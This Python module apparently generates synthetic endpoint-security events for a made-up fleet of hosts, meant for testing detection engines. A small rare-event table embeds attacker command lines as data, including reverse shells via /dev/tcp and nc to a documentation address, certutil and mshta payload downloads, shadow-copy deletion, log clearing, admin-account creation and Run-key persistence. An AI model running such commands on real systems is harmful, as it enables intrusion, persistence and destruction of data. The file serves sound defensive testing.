"""Events of an ordinary fleet, made up: what endpoint sensors report all day, and now and then something worse.

Deterministic, in ECS, the same for every engine that is compared. Hosts run Windows (most), Linux and macOS; kinds of
event come in about the shares in which sensors send them; most events match no rule, a few match some.
"""

from collections.abc import Callable, Iterator
from random import Random

Document = dict[str, object]

_SEED = 20_240_501
_START = 1_714_550_400_000
_STEP = 7
_LIFETIME = 5_000

_WINDOWS_PROGRAMS = (
    ("C:\\Windows\\System32\\", "svchost.exe", "-k netsvcs -p", "Microsoft Windows Publisher"),
    ("C:\\Windows\\System32\\", "services.exe", "", "Microsoft Windows Publisher"),
    ("C:\\Windows\\System32\\", "conhost.exe", "0xffffffff -ForceV1", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "taskhostw.exe", "Install", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "cmd.exe", "/c dir", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "rundll32.exe", "shell32.dll,Control_RunDLL", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "reg.exe", "query HKLM\\Software", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "sc.exe", "query state= all", "Microsoft Windows"),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\",
        "powershell.exe",
        "-NoProfile -File a.ps1",
        "Microsoft Windows",
    ),
    ("C:\\Windows\\", "explorer.exe", "/factory", "Microsoft Windows"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\", "chrome.exe", "--type=renderer", "Google LLC"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\", "OUTLOOK.EXE", "/recycle", "Microsoft Corporation"),
    ("C:\\Program Files\\Git\\cmd\\", "git.exe", "status --short", "Johannes Schindelin"),
    (
        "C:\\Users\\ana\\AppData\\Local\\Programs\\Microsoft VS Code\\",
        "Code.exe",
        "--type=utility",
        "Microsoft Corporation",
    ),
    ("C:\\Program Files\\Backup\\", "agent.exe", "--once", "Example Backup GmbH"),
)
_WINDOWS_RARE = (
    ("C:\\Windows\\System32\\", "vssadmin.exe", "delete shadows /all /quiet", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "wevtutil.exe", "cl Security", "Microsoft Windows"),
    ("C:\\Users\\Public\\", "updater.exe", "-enc SQBFAFgA", ""),
    ("C:\\Windows\\System32\\", "mshta.exe", "http://192.0.2.7/a.hta", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "certutil.exe", "-urlcache -split -f http://192.0.2.7/x x.exe", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "net.exe", "localgroup administrators eve /add", "Microsoft Windows"),
    ("C:\\Windows\\System32\\", "schtasks.exe", "/create /tn a /tr C:\\Users\\Public\\a.exe", "Microsoft Windows"),
)
_WINDOWS_PARENTS = {
    "svchost.exe": "services.exe",
    "agent.exe": "services.exe",
    "taskhostw.exe": "svchost.exe",
    "rundll32.exe": "explorer.exe",
    "conhost.exe": "cmd.exe",
    "reg.exe": "cmd.exe",
    "sc.exe": "cmd.exe",
    "git.exe": "Code.exe",
}
_UNIX_PROGRAMS = (
    ("/usr/bin/", "bash", "-c true", ""),
    ("/usr/bin/", "python3", "manage.py runserver", ""),
    ("/usr/sbin/", "sshd", "-D", ""),
    ("/usr/bin/", "curl", "-s https://example.org/health", ""),
    ("/usr/sbin/", "cron", "-f", ""),
    ("/usr/bin/", "ls", "-la /var/log", ""),
    ("/usr/bin/", "git", "fetch --all", ""),
)
_UNIX_RARE = (
    ("/tmp/", "x", "-i >& /dev/tcp/192.0.2.7/4444", ""),  # noqa: S108 - a path in an event
    ("/usr/bin/", "nc", "-e /bin/sh 192.0.2.7 4444", ""),
    ("/usr/bin/", "chmod", "+x /tmp/x", ""),
)
_WINDOWS_FILES = (
    "C:\\Users\\ana\\AppData\\Local\\Temp\\~DF{0}.TMP",
    "C:\\Users\\ana\\Documents\\report-{0}.docx",
    "C:\\Windows\\Prefetch\\CHROME.EXE-{0}.pf",
    "C:\\ProgramData\\Example\\log-{0}.txt",
    "C:\\Users\\ana\\Downloads\\setup-{0}.exe",
    "C:\\Windows\\System32\\Tasks\\Example\\{0}",
)
_UNIX_FILES = ("/var/log/app/{0}.log", "/home/ana/src/file{0}.py", "/tmp/build-{0}.o", "/etc/app/{0}.conf")  # noqa: S108
_REGISTRY = (
    ("HKLM\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{0}", "SequenceNumber", "{0}"),
    ("HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Word\\{0}", "Item", "report-{0}.docx"),
    ("HKLM\\SOFTWARE\\Example\\Agent", "LastRun", "{0}"),
    ("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "agent{0}", "C:\\Users\\Public\\updater.exe"),
)
_LIBRARIES = ("kernel32.dll", "ntdll.dll", "amsi.dll", "user32.dll", "clr.dll", "taskschd.dll")
_DOMAINS = ("example.org", "login.example.com", "cdn{0}.example.net", "time.example.org", "paste{0}.example.info")
_ADDRESSES = ("10.1.2.{0}", "192.168.7.{0}", "198.51.100.{0}", "203.0.113.{0}", "fe80::{0}")


class _Fleet:
    """The made-up hosts and users, and one method per kind of event."""

    def __init__(self) -> None:
        self._random = Random(_SEED)
        self._era = 0
        self._kinds: tuple[tuple[Callable[[str], Document], int], ...] = (
            (self._process_start, 24),
            (self._process_end, 12),
            (self._file, 26),
            (self._registry, 10),
            (self._connection, 12),
            (self._lookup, 5),
            (self._library, 6),
            (self._logon, 5),
        )

    def event(self, position: int) -> Document:
        """The next event; the position says when. Processes live for some thousand events, then their ids change."""
        self._era = position // _LIFETIME
        system = self._random.choices(("windows", "linux", "macos"), (70, 22, 8))[0]
        kinds, weights = zip(*self._kinds, strict=True)
        document: Document = self._random.choices(kinds, weights)[0](system)
        host = self._random.randrange(40)
        document["@timestamp"] = _START + position * _STEP
        document["host"] = {"id": f"h-{host}", "name": f"{system}-{host}", "os": {"type": system, "platform": system}}
        document["agent"] = {"id": f"a-{host}", "type": "endpoint", "version": "8.15.0"}
        document["ecs"] = {"version": "8.11.0"}
        document.setdefault("user", self._user(system))
        return document

    def _user(self, system: str) -> Document:
        if system != "windows":
            return {"id": str(self._random.choice((0, 33, 1000))), "name": self._random.choice(("root", "ana", "www"))}
        identity, name, domain = self._random.choice(
            (
                ("S-1-5-18", "SYSTEM", "NT AUTHORITY"),
                ("S-1-5-21-1-2-3-1001", "ana", "CORP"),
                ("S-1-5-20", "NETWORK SERVICE", "NT AUTHORITY"),
            )
        )
        return {"id": identity, "name": name, "domain": domain}

    def _program(self, system: str) -> Document:
        common, rare = (_WINDOWS_PROGRAMS, _WINDOWS_RARE) if system == "windows" else (_UNIX_PROGRAMS, _UNIX_RARE)
        return self._running(system, self._random.choice(rare if self._random.random() < 0.005 else common))

    def _parent(self, system: str, name: object) -> Document:
        """What usually starts the program; on Windows that is the shell unless said otherwise."""
        if system != "windows":
            return self._running(system, _UNIX_PROGRAMS[0])
        wanted = _WINDOWS_PARENTS.get(str(name), "explorer.exe")
        return self._running(system, next(program for program in _WINDOWS_PROGRAMS if program[1] == wanted))

    def _running(self, system: str, description: tuple[str, str, str, str]) -> Document:
        """A process that runs a program."""
        folder, name, arguments, signer = description
        pid = self._random.randrange(400, 1_200, 4)
        program: Document = {
            "name": name,
            "executable": folder + name,
            "command_line": f"{folder}{name} {arguments}",
            "args": [folder + name, *arguments.split()],
            "args_count": 1 + len(arguments.split()),
            "pid": pid,
            "entity_id": f"p-{pid}-{self._era}",
        }
        if system == "windows":
            program["pe"] = {"original_file_name": name}
            program["code_signature"] = (
                {"exists": True, "trusted": True, "status": "trusted", "subject_name": signer}
                if signer
                else {"exists": False}
            )
        return program

    def _process_start(self, system: str) -> Document:
        program = self._program(system)
        program["parent"] = self._parent(system, program["name"])
        program["hash"] = {"sha256": f"{self._random.getrandbits(256):064x}"}
        action = "start" if system == "windows" else "exec"
        return {"event": _event("process", "start", action), "process": program}

    def _process_end(self, system: str) -> Document:
        return {"event": _event("process", "end", "end"), "process": self._program(system) | {"exit_code": 0}}

    def _file(self, system: str) -> Document:
        path = self._random.choice(_WINDOWS_FILES if system == "windows" else _UNIX_FILES)
        path = path.format(self._random.randrange(10_000))
        folder, separator, name = path.rpartition("\\" if system == "windows" else "/")
        file: Document = {"path": path, "name": name, "directory": folder or separator, "size": len(path) * 100}
        if "." in name:
            file["extension"] = name.rpartition(".")[2]
        kind, action = self._random.choice(
            (("creation", "creation"), ("change", "modification"), ("deletion", "deletion"))
        )
        return {"event": _event("file", kind, action), "file": file, "process": self._program(system)}

    def _registry(self, system: str) -> Document:
        if system != "windows":
            return self._file(system)
        weights = (50, 30, 19, 1)
        key, value, data = self._random.choices(_REGISTRY, weights)[0]
        number = self._random.randrange(1000)
        key, value = key.format(number), value.format(number)
        return {
            "event": _event("registry", "change", "modification"),
            "registry": {
                "path": f"{key}\\{value}",
                "key": key.partition("\\")[2],
                "hive": key.partition("\\")[0],
                "value": value,
                "data": {"strings": [data.format(number)], "type": "REG_SZ"},
            },
            "process": self._program(system),
        }

    def _connection(self, system: str) -> Document:
        address = self._random.choice(_ADDRESSES).format(self._random.randrange(1, 250))
        return {
            "event": _event("network", "start", "connection_attempted"),
            "source": {"ip": "10.1.2.3", "port": self._random.randrange(49_152, 65_535)},
            "destination": {"ip": address, "port": self._random.choice((53, 80, 443, 445, 3389, 8443))},
            "network": {"transport": "tcp", "type": "ipv4", "direction": "egress"},
            "process": self._program(system),
        }

    def _lookup(self, system: str) -> Document:
        name = self._random.choice(_DOMAINS).format(self._random.randrange(30))
        return {
            "event": _event("network", "protocol", "lookup_requested"),
            "dns": {"question": {"name": name, "type": "A"}},
            "network": {"protocol": "dns"},
            "process": self._program(system),
        }

    def _library(self, system: str) -> Document:
        if system != "windows":
            return self._process_end(system)
        name = self._random.choice(_LIBRARIES)
        signature = {"exists": True, "trusted": True, "status": "trusted", "subject_name": "Microsoft Windows"}
        return {
            "event": _event("library", "start", "load"),
            "dll": {"name": name, "path": f"C:\\Windows\\System32\\{name}", "code_signature": signature},
            "process": self._program(system),
        }

    def _logon(self, system: str) -> Document:
        succeeded = self._random.random() < 0.9
        outcome = "success" if succeeded else "failure"
        document: Document = {
            "event": _event("authentication", "start", "logged-in" if succeeded else "logon-failed")
            | {"outcome": outcome},
            "source": {"ip": self._random.choice(_ADDRESSES).format(self._random.randrange(1, 250))},
        }
        if system == "windows":
            document["event"] = _event("authentication", "start", "logged-in") | {"outcome": outcome, "code": "4624"}
            document["winlog"] = {"logon": {"type": "Network"}, "event_data": {"AuthenticationPackageName": "NTLM"}}
        return document


def _event(category: str, kind: str, action: str) -> Document:
    return {"kind": "event", "category": [category], "type": [kind], "action": action, "module": "endpoint"}


def documents(count: int) -> Iterator[Document]:
    """The first `count` events, in order of time."""
    fleet = _Fleet()
    return (fleet.event(position) for position in range(count))
